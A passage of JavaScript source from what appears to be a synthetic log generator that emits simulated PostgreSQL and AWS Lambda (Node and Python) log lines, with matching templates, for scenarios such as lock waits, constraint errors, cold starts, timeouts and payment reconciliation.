      `DETAIL:  Process holding the lock: ${holder}. Wait queue: ${s.pid}${c.r.chance(0.3) ? `, ${c.r.int(1200, 32000)}` : ''}.`
    )
    cont(c, 'ctx_updating', 'LOG', h, `CONTEXT:  while updating tuple (${tu}) in relation "orders"`)
    cont(c, 'statement', 'LOG', h, `STATEMENT:  ${sql}`)
    if (c.r.chance(0.6)) {
      const waited = c.r.int(200, 4000)
      c.tick(waited)
      sev(
        c,
        'acquired',
        'LOG',
        h,
        `process ${s.pid} acquired ShareLock on transaction ${x} after ${f3(1000 + waited + c.r.next() * 30)} ms`
      )
      cont(
        c,
        'ctx_updating',
        'LOG',
        h,
        `CONTEXT:  while updating tuple (${tu}) in relation "orders"`
      )
      cont(c, 'statement', 'LOG', h, `STATEMENT:  ${sql}`)
    }
  }
  function lockRow(c) {
    const s = session(c, (x) => x.user === 'payments_app')
    const h = prefix(c, s)
    const oid = c.r.int(900000, 999999)
    sev(
      c,
      'still_waiting',
      'LOG',
      h,
      `process ${s.pid} still waiting for ShareLock on transaction ${xid(c)} after 1000.${pad(c.r.int(30, 999), 3)} ms`
    )
    cont(
      c,
      'lock_detail',
      'LOG',
      h,
      `DETAIL:  Process holding the lock: ${c.r.int(1200, 32000)}. Wait queue: ${s.pid}.`
    )
    cont(
      c,
      'ctx_locking',
      'LOG',
      h,
      `CONTEXT:  while locking tuple (${tuple(c.r)}) in relation "payment_intents"`
    )
    cont(
      c,
      'statement',
      'LOG',
      h,
      `STATEMENT:  SELECT * FROM payment_intents WHERE order_id = ${oid} FOR UPDATE`
    )
  }
  function waitingRel(c) {
    const s = newSession(c, APPS[3][1])
    const h = prefix(c, s)
    sev(
      c,
      'waiting_rel',
      'LOG',
      h,
      `process ${s.pid} still waiting for AccessExclusiveLock on relation 16${c.r.int(400, 999)} of database 16401 after 1000.${pad(c.r.int(30, 999), 3)} ms`
    )
    cont(
      c,
      'lock_detail',
      'LOG',
      h,
      `DETAIL:  Process holding the lock: ${c.r.int(1200, 32000)}. Wait queue: ${s.pid}.`
    )
    cont(
      c,
      'statement',
      'LOG',
      h,
      'STATEMENT:  ALTER TABLE order_items ADD COLUMN gift_wrap boolean NOT NULL DEFAULT false'
    )
  }
  function dupKey(c) {
    const s = session(c, (x) => x.user === 'orders_app' || x.user === 'payments_app')
    const h = prefix(c, s)
    const v = (s.db === 'payments' ? (l) => l[1][1] : (l) => c.r.wpick([l[0], l[2]]))([
      [
        5,
        () => {
          const e = `${c.r.pick(['anna', 'jonas', 'li.wei', 'maria', 'tom', 'zoë'])}.${c.r.int(10, 99)}@example.org`
          return [
            'customers_email_key',
            'email',
            e,
            `INSERT INTO customers (email, name, created_at) VALUES ('${e}', 'Customer ${c.r.int(1, 999)}', now())`
          ]
        }
      ],
      [
        4,
        () => {
          const k = c.r.uuid()
          return [
            'idempotency_keys_pkey',
            'key',
            k,
            `INSERT INTO idempotency_keys (key, response, created_at) VALUES ('${k}', '{"status":"accepted"}', now())`
          ]
        }
      ],
      [
        2,
        () => {
          const o = c.r.int(900000, 999999)
          const sku = `SKU-${c.r.int(1000, 9999)}`
          return [
            'order_items_order_id_sku_key',
            'order_id, sku',
            `${o}, ${sku}`,
            `INSERT INTO order_items (order_id, sku, qty, price_cents) VALUES (${o}, '${sku}', 1, 2599)`
          ]
        }
      ]
    ])()
    sev(c, 'dup_key', 'ERROR', h, `duplicate key value violates unique constraint "${v[0]}"`)
    cont(c, 'dup_detail', 'ERROR', h, `DETAIL:  Key (${v[1]})=(${v[2]}) already exists.`)
    cont(c, 'statement', 'ERROR', h, `STATEMENT:  ${v[3]}`)
  }
  function fatal(k, text, sess) {
    return (c) => {
      const s = sess ? sess(c) : newSession(c)
      sev(c, k, 'FATAL', prefix(c, s), typeof text === 'function' ? text(c, s) : text)
    }
  }
  function pwFailed(c) {
    const s = newSession(c, APPS[2][1])
    s.user = c.r.pick(['reporting', 'analyst_ro'])
    const h = prefix(c, s)
    sev(c, 'pw_failed', 'FATAL', h, `password authentication failed for user "${s.user}"`)
    cont(
      c,
      'pw_detail',
      'FATAL',
      h,
      'DETAIL:  Connection matched file "/rdsdbdata/config/pg_hba.conf" line 13: "host	all	all	0.0.0.0/0	md5"'
    )
  }
  function noHba(c) {
    const s = newSession(c, APPS[2][1])
    s.ip = `172.31.${c.r.int(0, 60)}.${c.r.int(2, 250)}`
    sev(
      c,
      'no_hba',
      'FATAL',
      prefix(c, s),
      `no pg_hba.conf entry for host "${s.ip}", user "${s.user}", database "${s.db}", no encryption`
    )
  }
  function tempFile(c) {
    const s = session(c, (x) => x.user === 'reporting')
    const h = prefix(c, s)
    sev(
      c,
      'temp_file',
      'LOG',
      h,
      `temporary file: path "base/pgsql_tmp/pgsql_tmp${s.pid}.${c.r.int(0, 3)}", size ${c.r.int(8, 400) * 262144}`
    )
    cont(
      c,
      'statement',
      'LOG',
      h,
      `STATEMENT:  SELECT c.id, c.email, count(o.id) AS orders, sum(o.total_cents) AS spent FROM customers c LEFT JOIN orders o ON o.customer_id = c.id WHERE o.created_at >= '2025-0${c.r.int(1, 3)}-01' GROUP BY c.id, c.email ORDER BY spent DESC`
    )
  }
  function reload(c) {
    sev(c, 'sighup', 'LOG', bg(c, 572), 'received SIGHUP, reloading configuration files')
    sev(
      c,
      'param_changed',
      'LOG',
      bg(c, 572),
      'parameter "log_min_duration_statement" changed to "200"'
    )
    sev(
      c,
      'param_changed',
      'LOG',
      bg(c, 572),
      'parameter "idle_in_transaction_session_timeout" changed to "60000"'
    )
  }
  return {
    name: 'postgresql',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(100, 6000),
    intra: 2,
    templates: T,
    init: (c) => {
      c.S.pool = []
      for (let i = 0; i < 14; i++) c.S.pool.push(newSession(c))
      c.S.ckptPid = 571
      c.S.lsn = 0x3a7000000
      c.S.xid = 88120000
    },
    filler: stmt,
    episodes: [
      { at: [0.47], run: reload },
      { w: 60, run: stmt },
      { w: 42, run: execute },
      { w: 3, run: parseBind('parse') },
      { w: 4, run: parseBind('bind') },
      { w: 18, run: connect },
      { w: 15, run: disconnect },
      {
        w: 5,
        run: (c) =>
          sev(
            c,
            'recv_reset',
            'LOG',
            prefix(c, session(c)),
            'could not receive data from client: Connection reset by peer'
          )
      },
      {
        n: 2,
        run: (c) =>
          sev(
            c,
            'eof_tx',
            'LOG',
            prefix(c, session(c)),
            'unexpected EOF on client connection with an open transaction'
          )
      },
      {
        n: 2,
        run: (c) => {
          const s = session(c, (x) => x.user === 'reporting')
          sev(c, 'send_pipe', 'LOG', prefix(c, s), 'could not send data to client: Broken pipe')
          sev(c, 'conn_lost', 'FATAL', prefix(c, s), 'connection to client lost')
        }
      },
      { w: 4, run: ckpt },
      {
        n: 2,
        run: (c) =>
          sev(
            c,
            'skip_vacuum',
            'LOG',
            bg(c, c.r.int(20000, 32000), 'orders'),
            `skipping vacuum of "${c.r.pick(['order_items', 'inventory'])}" --- lock not available`
          )
      },
      { w: 9, run: dupKey },
      {
        w: 5,
        run: withStatement('stmt_timeout', 'ERROR', 'canceling statement due to statement timeout')
      },
      {
        n: 2,
        run: withStatement('user_cancel', 'ERROR', 'canceling statement due to user request')
      },
      { n: 2, run: deadlock },
      { w: 3, run: lockWait },
      { n: 2, run: lockRow },
      { n: 1, run: waitingRel },
      {
        w: 2,
        run: withStatement(
          'serialize',
          'ERROR',
          'could not serialize access due to concurrent update'
        )
      },
      {
        n: 2,
        run: (c) => {
          const s = session(c, (x) => x.user === 'orders_app')
          const h = prefix(c, s)
          const oid = c.r.int(900000, 999999)
          sev(
            c,
            'not_null',
            'ERROR',
            h,
            'null value in column "shipping_address_id" of relation "orders" violates not-null constraint'
          )
          cont(
            c,
            'failing_row',
            'ERROR',
            h,
            `DETAIL:  Failing row contains (${oid}, ${c.r.int(10000, 99999)}, pending, ${c.r.int(999, 30000)}, EUR, null, 2025-03-11 ${ymdHms(c.t).slice(11)}.${c.r.int(100000, 999999)}+00).`
          )
          cont(
            c,
            'statement',
            'ERROR',
            h,
            `STATEMENT:  INSERT INTO orders (id, customer_id, status, total_cents, currency, shipping_address_id, created_at) VALUES ($1, $2, $3, $4, $5, $6, $7)`
          )
        }
      },
      {
        n: 3,
        run: (c) => {
          const s = session(c, (x) => x.user === 'orders_app')
          const h = prefix(c, s)
          const oid = c.r.int(100000, 899999)
          sev(
            c,
            'fk',
            'ERROR',
            h,
            'insert or update on table "order_items" violates foreign key constraint "order_items_order_id_fkey"'
          )
          cont(
            c,
            'fk_detail',
            'ERROR',
            h,
            `DETAIL:  Key (order_id)=(${oid}) is not present in table "orders".`
          )
          cont(
            c,
            'statement',
            'ERROR',
            h,
            `STATEMENT:  INSERT INTO order_items (order_id, sku, qty, price_cents) VALUES (${oid}, 'SKU-${c.r.int(1000, 9999)}', 1, ${c.r.int(499, 9999)})`
          )
        }
      },
      {
        n: 2,
        run: (c) => {
          const s = session(c, (x) => x.user === 'reporting')
          const h = prefix(c, s)
          const t = c.r.pick(['order_events_2024', 'daily_revenue'])
          sev(
            c,
            'no_relation',
            'ERROR',
            h,
            `relation "${t}" does not exist at character ${c.r.int(15, 60)}`
          )
          cont(
            c,
            'statement',
            'ERROR',
            h,
            `STATEMENT:  SELECT count(*) FROM ${t} WHERE created_at > now() - interval '1 day'`
          )
        }
      },
      {
        n: 1,
        run: (c) => {
          const s = session(c, (x) => x.user === 'reporting')
          const h = prefix(c, s)
          sev(c, 'no_column', 'ERROR', h, 'column "o.total" does not exist at character 32')
          cont(
            c,
            'hint_column',
            'ERROR',
            h,
            'HINT:  Perhaps you meant to reference the column "o.total_cents".'
          )
          cont(
            c,
            'statement',
            'ERROR',
            h,
            "SELECT o.customer_id, sum(o.total) FROM orders o WHERE o.status = 'paid' GROUP BY 1".replace(
              /^/,
              'STATEMENT:  '
            )
          )
        }
      },
      {
        n: 2,
        run: (c) => {
          const s = session(c, (x) => x.user === 'reporting')
          const h = prefix(c, s)
          const v = c.r.pick([
            ['ORDER', "SELECT id, status FROM orders WHERE status = 'paid' GROUP ORDER BY id"],
            ['FROM', 'SELECT id, FROM customers LIMIT 10']
          ])
          sev(
            c,
            'syntax',
            'ERROR',
            h,
            `syntax error at or near "${v[0]}" at character ${v[1].indexOf(v[0]) + 1}`
          )
          cont(c, 'statement', 'ERROR', h, `STATEMENT:  ${v[1]}`)
        }
      },
      {
        w: 2,
        run: withStatement(
          'aborted_tx',
          'ERROR',
          'current transaction is aborted, commands ignored until end of transaction block'
        )
      },
      {
        w: 3,
        run: (c) =>
          sev(c, 'no_tx', 'WARNING', prefix(c, session(c)), 'there is no transaction in progress')
      },
      { n: 3, run: pwFailed },
      { n: 2, run: noHba },
      {
        n: 3,
        from: 0.6,
        to: 0.7,
        run: fatal(
          'slots',
          'remaining connection slots are reserved for roles with the SUPERUSER attribute'
        )
      },
      {
        w: 2,
        run: fatal('idle_tx', 'terminating connection due to idle-in-transaction timeout', (c) =>
          session(c)
        )
      },
      {
        n: 1,
        run: fatal(
          'no_db',
          (c, s) => `database "${s.db}" does not exist`,
          (c) => {
            const s = newSession(c, APPS[0][1])
            s.db = 'orders_staging'
            return s
          }
        )
      },
      {
        n: 2,
        run: fatal('admin_term', 'terminating connection due to administrator command', (c) =>
          session(c, (x) => x.user === 'reporting')
        )
      },
      { w: 3, run: tempFile }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// AWS Lambda: platform lines (INIT_START, START, END, REPORT, EXTENSION, INIT_REPORT) carry no
// header; runtime-formatted app lines do.

const RUNTIME_HEX = (r) => r.hex(64)
function reportLine(c, id, o) {
  const d = o.duration
  let s = `REPORT RequestId: ${id}\tDuration: ${f2(d)} ms\tBilled Duration: ${Math.ceil(d)} ms\tMemory Size: ${o.mem} MB\tMax Memory Used: ${o.used} MB\t`
  if (o.init) s += `Init Duration: ${f2(o.init)} ms\t`
  if (o.status) s = s + o.status
  c.out('report', 'info', '', s)
}

// lambda-node: an SQS-triggered order processor on nodejs22.x, text log format.
function lambdaNode() {
  const T = [
    ['init_start', 'INIT_START Runtime Version: <*>\tRuntime Version ARN: <*>'],
    ['ext_loglevel', 'PARAMETERS_SECRETS_EXTENSION_LOG_LEVEL is <*>. Log level set to <*>.'],
    ['ext_version', 'Systems Manager Parameter Store and Secrets Manager Lambda Extension <*>'],
    ['ext_port', 'Serving on port <*>'],
    ['extension', 'EXTENSION\tName: <*>\tState: <*>\tEvents: <*>'],
    ['start', 'START RequestId: <*> Version: <*>'],
    ['end', 'END RequestId: <*>'],
    [
      'report',
      'REPORT RequestId: <*>\tDuration: <*> ms\tBilled Duration: <*> ms\tMemory Size: <*> MB\tMax Memory Used: <*> MB\t<*>'
    ],
    ['init_report', 'INIT_REPORT Init Duration: <*> ms\tPhase: <*>\tStatus: <*>\tError Type: <*>'],
    ['cfg_loaded', 'Loaded config from SSM parameter <*> (<*> keys)'],
    ['ddb_init', 'Initialized DynamoDB DocumentClient for table <*> (region <*>)'],
    ['batch', 'Processing SQS batch of <*> records'],
    ['message', 'Processing message <*> for order <*> (attempt <*>)'],
    ['transition', 'Order <*> transitioned <*> -> <*>'],
    ['dup', 'Skipping duplicate message <*> (already processed at <*>)'],
    ['throttled', 'DynamoDB throttled <*> on <*>, retrying in <*> ms (attempt <*>/<*>)'],
    ['retry_err', 'retrying after ERROR from upstream inventory-api: status=<*> attempt=<*>'],
    ['inv_resp', 'inventory-api responded in <*> ms status=<*>'],
    ['eb_fail', 'Failed to publish <*> to EventBridge bus <*>: <*>'],
    ['no_items', 'Order <*> has no line items, marking it invalid'],
    ['missing_attr', 'Message <*> is missing attribute <*>, sending to DLQ'],
    ['batch_done', 'Batch finished: <*> succeeded, <*> failed'],
    ['item_failures', 'Returning batchItemFailures: <*>'],
    ['invoke_error', 'Invoke Error \t<*>'],
    ['uncaught', 'Uncaught Exception \t<*>'],
    ['timeout', 'Task timed out after <*> seconds']
  ]
  const LV = { DEBUG: 'debug', INFO: 'info', WARN: 'warning', ERROR: 'error' }
  const app = (c, k, L, id, msg) => c.out(k, LV[L], `${isoMs(c.t)}\t${id}\t${L}\t`, msg)
  const ext = (c, k, L, msg) =>
    c.out(
      k,
      L ? LV[L] : 'info',
      `[AWS Parameters and Secrets Lambda Extension] ${ymdHms(c.t, '/')} ${L ? `${L} ` : ''}`,
      msg
    )
  const ORDER_STATES = [
    ['pending', 'paid'],
    ['paid', 'packed'],
    ['packed', 'shipped'],
    ['shipped', 'delivered'],
    ['pending', 'cancelled']
  ]
  function init(c, fail) {
    c.out(
      'init_start',
      'info',
      '',
      `INIT_START Runtime Version: ${c.S.rtv}\tRuntime Version ARN: arn:aws:lambda:us-east-1::runtime:${c.S.rtArn}`
    )
    ext(
      c,
      'ext_loglevel',
      null,
      'PARAMETERS_SECRETS_EXTENSION_LOG_LEVEL is info. Log level set to info.'
    )
    ext(
      c,
      'ext_version',
      'INFO',
      'Systems Manager Parameter Store and Secrets Manager Lambda Extension 1.0.103'
    )
    ext(c, 'ext_port', 'INFO', 'Serving on port 2773')
    c.out(
      'extension',
      'info',
      '',
      'EXTENSION\tName: AWSParametersAndSecretsLambdaExtension\tState: Ready\tEvents: [INVOKE, SHUTDOWN]'
    )
    c.out(
      'extension',
      'info',
      '',
      'EXTENSION\tName: cloudwatch_lambda_agent\tState: Ready\tEvents: [INVOKE, SHUTDOWN]'
    )
    if (fail) return
    c.tick(c.r.int(150, 400))
    app(
      c,
      'cfg_loaded',
      'INFO',
      'undefined',
      `Loaded config from SSM parameter /orders/prod/processor (${c.S.cfgKeys} keys)`
    )
    app(
      c,
      'ddb_init',
      'INFO',
      'undefined',
      'Initialized DynamoDB DocumentClient for table orders-prod (region us-east-1)'
    )
  }
  function invoke(c, opt = {}) {
    const r = c.r
    const id = r.uuid()
    let t0 = c.t
    c.out('start', 'info', '', `START RequestId: ${id} Version: ${c.S.version}`)
    const n =
      opt.records ??
      r.wpick([
        [45, 1],
        [25, 2],
        [15, 3],
        [10, 5],
        [5, 10]
      ])
    app(c, 'batch', 'INFO', id, `Processing SQS batch of ${n} records`)
    let failed = []
    const shown = Math.min(n, 3)
    for (let i = 0; i < shown; i++) {
      const mid = r.uuid()
      const oid = `ord_${r.alnum(10)}`
      const attempt = r.wpick([
        [85, 1],
        [10, 2],
        [5, 3]
      ])
      app(
        c,
        'message',
        'DEBUG',
        id,
        `Processing message ${mid} for order ${oid} (attempt ${attempt})`
      )
      if (r.chance(0.07)) {
        app(
          c,
          'dup',
          'INFO',
          id,
          `Skipping duplicate message ${mid} (already processed at ${isoMs(c.t - r.int(60000, 900000))})`
        )
        continue
      }
      if (r.chance(0.02)) {
        app(
          c,
          'missing_attr',
          'ERROR',
          id,
          `Message ${mid} is missing attribute ${r.pick(['orderId', 'eventType'])}, sending to DLQ`
        )
        continue
      }
      if (r.chance(0.02)) {
        app(c, 'no_items', 'WARN', id, `Order ${oid} has no line items, marking it invalid`)
        continue
      }
      if (r.chance(0.3)) {
        const first = r.chance(0.15) ? r.pick([503, 502, 429]) : 200
        app(
          c,
          'inv_resp',
          'DEBUG',
          id,
          `inventory-api responded in ${r.int(8, 40) + (first === 200 ? 0 : r.int(100, 900))} ms status=${first}`
        )
        if (first !== 200) {
          app(
            c,
            'retry_err',
            'INFO',
            id,
            `retrying after ERROR from upstream inventory-api: status=${first} attempt=2`
          )
          app(
            c,
            'inv_resp',
            'DEBUG',
            id,
            `inventory-api responded in ${r.int(8, 60)} ms status=200`
          )
        }
      }
      if (r.chance(0.07)) {
        const a = r.int(1, 3)
        app(
          c,
          'throttled',
          'WARN',
          id,
          `DynamoDB throttled ${r.pick(['PutItem', 'UpdateItem', 'TransactWriteItems'])} on orders-prod, retrying in ${50 * 2 ** a + r.int(0, 40)} ms (attempt ${a}/5)`
        )
      }
      const st = r.pick(ORDER_STATES)
      app(c, 'transition', 'INFO', id, `Order ${oid} transitioned ${st[0]} -> ${st[1]}`)
      if (r.chance(0.035)) {
        app(
          c,
          'eb_fail',
          'ERROR',
          id,
          `Failed to publish OrderStatusChanged to EventBridge bus orders-events: ${r.pick(['ThrottlingException: Rate exceeded', 'InternalException: Internal service error', 'TimeoutError: Socket timed out without establishing a connection within 1000 ms'])}`
        )
        failed.push(mid)
      }
    }
    if (opt.error) {
      const e = r.pick([
        `{"errorType":"TypeError","errorMessage":"Cannot read properties of undefined (reading 'lineItems')","stack":["TypeError: Cannot read properties of undefined (reading 'lineItems')","    at toOrder (file:///var/task/index.mjs:88:31)","    at Runtime.handler (file:///var/task/index.mjs:41:19)"]}`,
        `{"errorType":"ConditionalCheckFailedException","errorMessage":"The conditional request failed","name":"ConditionalCheckFailedException","$fault":"client","$metadata":{"httpStatusCode":400,"requestId":"${r.alnum(52, 'ABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789')}","attempts":1,"totalRetryDelay":0},"stack":["ConditionalCheckFailedException: The conditional request failed","    at throwDefaultError (/var/runtime/node_modules/@aws-sdk/node_modules/@smithy/smithy-client/dist-cjs/index.js:867:20)","    at async Runtime.handler (file:///var/task/index.mjs:57:5)"]}`
      ])
      app(c, 'invoke_error', 'ERROR', id, `Invoke Error \t${e}`)
    } else if (opt.timeout) {
      c.tick(30000 - (c.t - t0))
      c.out(
        'timeout',
        'info',
        `${isoMs(c.t)} ${id} `,
        `Task timed out after 30.0${r.int(1, 9)} seconds`
      )
    } else {
      app(
        c,
        'batch_done',
        'INFO',
        id,
        `Batch finished: ${n - failed.length} succeeded, ${failed.length} failed`
      )
      if (failed.length)
        app(
          c,
          'item_failures',
          'WARN',
          id,
          `Returning batchItemFailures: ${JSON.stringify(failed.map((m) => ({ itemIdentifier: m })))}`
        )
    }
    c.out('end', 'info', '', `END RequestId: ${id}`)
    const duration = opt.timeout ? 30000 : Math.max(3, c.t - t0 + r.next() * 3)
    reportLine(c, id, {
      duration,
      mem: 512,
      used: r.int(96, 160),
      init: opt.init,
      status: opt.timeout ? 'Status: timeout' : ''
    })
  }
  function cold(c) {
    init(c)
    invoke(c, { init: 300 + c.r.dur(250) })
  }
  function badDeploy(c) {
    c.S.version = String(Number(c.S.version) + 1)
    init(c, true)
    const err = `{"errorType":"Runtime.ImportModuleError","errorMessage":"Error: Cannot find module '@aws-sdk/client-eventbridge'\\nRequire stack:\\n- /var/task/index.js\\n- /var/runtime/index.mjs","stack":["Runtime.ImportModuleError: Error: Cannot find module '@aws-sdk/client-eventbridge'","Require stack:","- /var/task/index.js","- /var/runtime/index.mjs","    at _loadUserApp (file:///var/runtime/index.mjs:1087:17)","    at async UserFunction.js.module.exports.load (file:///var/runtime/index.mjs:1119:21)","    at async start (file:///var/runtime/index.mjs:1282:23)"]}`
    c.out('uncaught', 'error', `${isoMs(c.t)}\tundefined\tERROR\t`, `Uncaught Exception \t${err}`)
    c.out(
      'init_report',
      'info',
      '',
      `INIT_REPORT Init Duration: ${f2(180 + c.r.next() * 60)} ms\tPhase: init\tStatus: error\tError Type: Runtime.ImportModuleError`
    )
    const id = c.r.uuid()
    c.out('start', 'info', '', `START RequestId: ${id} Version: ${c.S.version}`)
    c.out('uncaught', 'error', `${isoMs(c.t)}\tundefined\tERROR\t`, `Uncaught Exception \t${err}`)
    c.out(
      'init_report',
      'info',
      '',
      `INIT_REPORT Init Duration: ${f2(160 + c.r.next() * 60)} ms\tPhase: invoke\tStatus: error\tError Type: Runtime.ImportModuleError`
    )
    c.out('end', 'info', '', `END RequestId: ${id}`)
    reportLine(c, id, {
      duration: 190 + c.r.next() * 50,
      mem: 512,
      used: c.r.int(70, 80),
      status: 'Status: error\tError Type: Runtime.ImportModuleError'
    })
    c.tick(240000)
    c.S.version = String(Number(c.S.version) + 1)
    c.S.cfgKeys += 1
    cold(c)
  }
  return {
    name: 'lambda-node',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(300, 20000),
    intra: 25,
    templates: T,
    init: (c) => {
      c.S.rtv = 'nodejs:22.v38'
      c.S.rtArn = RUNTIME_HEX(c.r)
      c.S.version = '41'
      c.S.cfgKeys = 14
    },
    episodes: [
      { at: [0], run: cold },
      { n: 3, run: cold },
      { at: [0.52], run: badDeploy },
      {
        at: [0.7],
        run: (c) => {
          // a managed runtime update between two execution environments
          c.S.rtv = 'nodejs:22.v39'
          c.S.rtArn = RUNTIME_HEX(c.r)
          cold(c)
        }
      },
      {
        n: 2,
        run: (c) => {
          invoke(c, { timeout: true, records: 10 })
          cold(c)
        }
      },
      { n: 3, run: (c) => invoke(c, { error: true }) },
      { w: 1, run: (c) => invoke(c) }
    ]
  }
}

// lambda-python: a payments reconciler on python3.12 (S3-triggered and scheduled), text log
// format: the runtime's logging handler ('[LEVEL]\t<time>\t<request id>\t'), print() lines with
// no header, and the runtime's own unhandled-error lines.
function lambdaPython() {
  const T = [
    ['init_start', 'INIT_START Runtime Version: <*>\tRuntime Version ARN: <*>'],
    ['start', 'START RequestId: <*> Version: <*>'],
    ['end', 'END RequestId: <*>'],
    [
      'report',
      'REPORT RequestId: <*>\tDuration: <*> ms\tBilled Duration: <*> ms\tMemory Size: <*> MB\tMax Memory Used: <*> MB\t<*>'
    ],
    ['creds', 'Found credentials in environment variables.'],
    ['fx_loaded', 'Loaded <*> FX rates for <*> from <*>'],
    ['s3_event', 'Received S3 event for <*> (<*> bytes)'],
    ['p_batch', 'Reconciling batch <*> (<*> rows)'],
    ['new_conn', 'Starting new HTTPS connection (<*>): <*>'],
    ['http_resp', 'https://<*>:443 "<*>" <*> <*>'],
    ['match', 'Matching payment <*> against ledger entry <*>'],
    ['mismatch', 'Amount mismatch for payment <*>: ledger=<*> settlement=<*> currency=<*>'],
    ['missing', 'Payment <*> not found in ledger, queued for manual review'],
    ['retry_err', 'Retrying <*> after ERROR from DynamoDB: <*> (attempt <*>)'],
    ['pool_full', 'Connection pool is full, discarding connection: <*>. Connection pool size: <*>'],
    ['done', 'Reconciled <*> payments, <*> mismatches, <*> missing in <*>s'],
    ['p_wrote', 'Wrote report <*> (<*> mismatches)'],
    ['write_fail', 'Failed to write report to <*>: <*>'],
    ['sched', 'Scheduled run <*>: <*> settlements pending since <*>'],
    ['p_nothing', 'Nothing to reconcile'],
    ['drift', 'Ledger balance drift exceeds threshold: drift=<*> threshold=<*>'],
    [
      'lambda_warning',
      'Unhandled exception. The most likely cause is an issue in the function code. However, in rare cases, a Lambda runtime update can cause unexpected function behavior. For functions using managed runtimes, runtime updates can be triggered by a function change, or can be applied automatically. To determine if the runtime has been updated, check the runtime version in the INIT_START log entry. If this error correlates with a change in the runtime version, you may be able to mitigate this error by temporarily rolling back to the previous runtime version. For more information, see https://docs.aws.amazon.com/lambda/latest/dg/runtimes-update.html'
    ],
    ['unh_keyerror', 'KeyError: <*>'],
    [
      'unh_client',
      'ClientError: An error occurred (<*>) when calling the <*> operation (reached max retries: <*>): <*>'
    ],
    ['timeout', 'Task timed out after <*> seconds']
  ]
  const LV = {
    DEBUG: 'debug',
    INFO: 'info',
    WARNING: 'warning',
    ERROR: 'error',
    CRITICAL: 'critical'
  }
  const log = (c, k, L, id, msg) => c.out(k, LV[L], `[${L}]\t${isoMs(c.t)}\t${id}\t`, msg)
  const LEDGER = 'ledger.internal.example.com'
  const pid = (r) =>
    `pi_3Q${r.alnum(22, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789')}`
  function init(c) {
    c.out(
      'init_start',
      'info',
      '',
      `INIT_START Runtime Version: ${c.S.rtv}\tRuntime Version ARN: arn:aws:lambda:us-east-1::runtime:${c.S.rtArn}`
    )
    log(c, 'creds', 'INFO', '', 'Found credentials in environment variables.')
    log(
      c,
      'fx_loaded',
      'INFO',
      '',
      `Loaded ${c.r.int(30, 34)} FX rates for ${ymdHms(c.t).slice(0, 10)} from s3://acme-fx-rates/daily/${ymdHms(c.t).slice(0, 10)}.json`
    )
  }
  function invoke(c, opt = {}) {
    const r = c.r
    const id = r.uuid()
    const t0 = c.t
    c.out('start', 'info', '', `START RequestId: ${id} Version: $LATEST`)
    let rows = 0
    let mism = 0
    let miss = 0
    const day = ymdHms(c.t).slice(0, 10)
    if (opt.sched) {
      const n = opt.drift
        ? r.int(5, 40)
        : r.wpick([
            [40, 0],
            [60, r.int(1, 40)]
          ])
      log(
        c,
        'sched',
        'INFO',
        id,
        `Scheduled run ${isoS(c.t)}: ${n} settlements pending since ${isoS(c.t - r.int(3600, 86400) * 1000)}`
      )
      if (n === 0) c.out('p_nothing', 'info', '', 'Nothing to reconcile')
      rows = n
    } else {
      const part = `${r.pick(['stripe-payouts', 'adyen-settlement', 'paypal-sttl'])}-${pad(r.int(1, 40), 4)}`
      rows = r.int(200, 4000)
      log(
        c,
        's3_event',
        'INFO',
        id,
        `Received S3 event for s3://acme-settlements-prod/incoming/${day.replace(/-/g, '/')}/${part}.csv (${rows * r.int(90, 110)} bytes)`
      )
      c.out('p_batch', 'info', '', `Reconciling batch ${day}/${part} (${rows} rows)`)
    }
    if (opt.keyError) {
      c.out(
        'lambda_warning',
        'warning',
        'LAMBDA_WARNING: ',
        T.find((t) => t[0] === 'lambda_warning')[1]
      )
      c.out('unh_keyerror', 'error', '[ERROR] ', `KeyError: '${r.pick(['Records', 'detail'])}'`)
    } else if (rows > 0) {
      if (r.chance(0.5))
        log(
          c,
          'new_conn',
          'DEBUG',
          id,
          `Starting new HTTPS connection (${r.int(1, 3)}): ${LEDGER}:443`
        )
      for (let i = r.int(1, 4); i > 0; i--) {
        log(
          c,
          'http_resp',
          'DEBUG',
          id,
          `https://${LEDGER}:443 "POST /v1/entries/lookup HTTP/1.1" 200 ${r.int(900, 9000)}`
        )
        for (let j = r.int(1, 3); j > 0; j--) {
          const p = pid(r)
          log(
            c,
            'match',
            'DEBUG',
            id,
            `Matching payment ${p} against ledger entry le_${r.alnum(16, '0123456789abcdef')}`
          )
          if (r.chance(0.08)) {
            const a = r.int(500, 90000) / 100
            log(
              c,
              'mismatch',
              'WARNING',
              id,
              `Amount mismatch for payment ${p}: ledger=${f2(a)} settlement=${f2(a - r.int(1, 250) / 100)} currency=${r.pick(['EUR', 'USD', 'GBP', 'SEK'])}`
            )
            mism++
          }
        }
      }
      if (opt.missing || r.chance(0.03)) {
        log(
          c,
          'missing',
          'WARNING',
          id,
          `Payment ${pid(r)} not found in ledger, queued for manual review`
        )
        miss++
      }
      if (opt.retry || r.chance(0.06))
        log(
          c,
          'retry_err',
          'INFO',
          id,
          `Retrying ${r.pick(['GetItem', 'BatchGetItem'])} after ERROR from DynamoDB: ProvisionedThroughputExceededException (attempt ${r.int(2, 3)})`
        )
      if (opt.poolFull || r.chance(0.03))
        log(
          c,
          'pool_full',
          'WARNING',
          id,
          `Connection pool is full, discarding connection: ${LEDGER}. Connection pool size: 10`
        )
      if (opt.throttle) {
        c.out(
          'lambda_warning',
          'warning',
          'LAMBDA_WARNING: ',
          T.find((t) => t[0] === 'lambda_warning')[1]
        )
        c.out(
          'unh_client',
          'error',
          '[ERROR] ',
          'ClientError: An error occurred (ThrottlingException) when calling the PutMetricData operation (reached max retries: 4): Rate exceeded'
        )
      } else if (!opt.timeout) {
        log(
          c,
          'done',
          'INFO',
          id,
          `Reconciled ${rows} payments, ${mism} mismatches, ${miss} missing in ${f2((c.t - t0) / 1000 + r.next() * 3)}s`
        )
        if (opt.drift)
          log(
            c,
            'drift',
            'CRITICAL',
            id,
            `Ledger balance drift exceeds threshold: drift=${f2(1200 + r.next() * 900)} EUR threshold=1000.00 EUR`
          )
        if (!opt.sched) {
          const dst = `s3://acme-settlements-prod/reports/${day}/${id.slice(0, 8)}.json`
          if (opt.writeFail)
            log(
              c,
              'write_fail',
              'ERROR',
              id,
